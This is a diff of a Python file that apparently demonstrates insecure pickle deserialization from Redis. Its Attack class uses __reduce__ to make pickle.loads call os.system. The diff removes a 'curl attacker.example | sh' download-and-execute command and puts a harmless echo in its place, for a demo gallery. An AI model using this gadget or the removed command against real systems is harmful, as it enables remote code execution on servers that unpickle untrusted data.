@@ -88,12 +88,13 @@ class Session:
 
 
 class Attack:
-    """What an attacker who can write to Redis leaves for pickle.loads."""
+    """What an attacker who can write to Redis leaves for pickle.loads. The
+    command is a harmless one: the gallery may be seeded on a real server."""
 
     def __reduce__(self):
         import os
 
-        return os.system, ("curl http://attacker.example/x.sh | sh",)
+        return os.system, ("echo whoever unpickles this runs it",)
 
 
 CET = dt.timezone(dt.timedelta(hours=1), "CET")
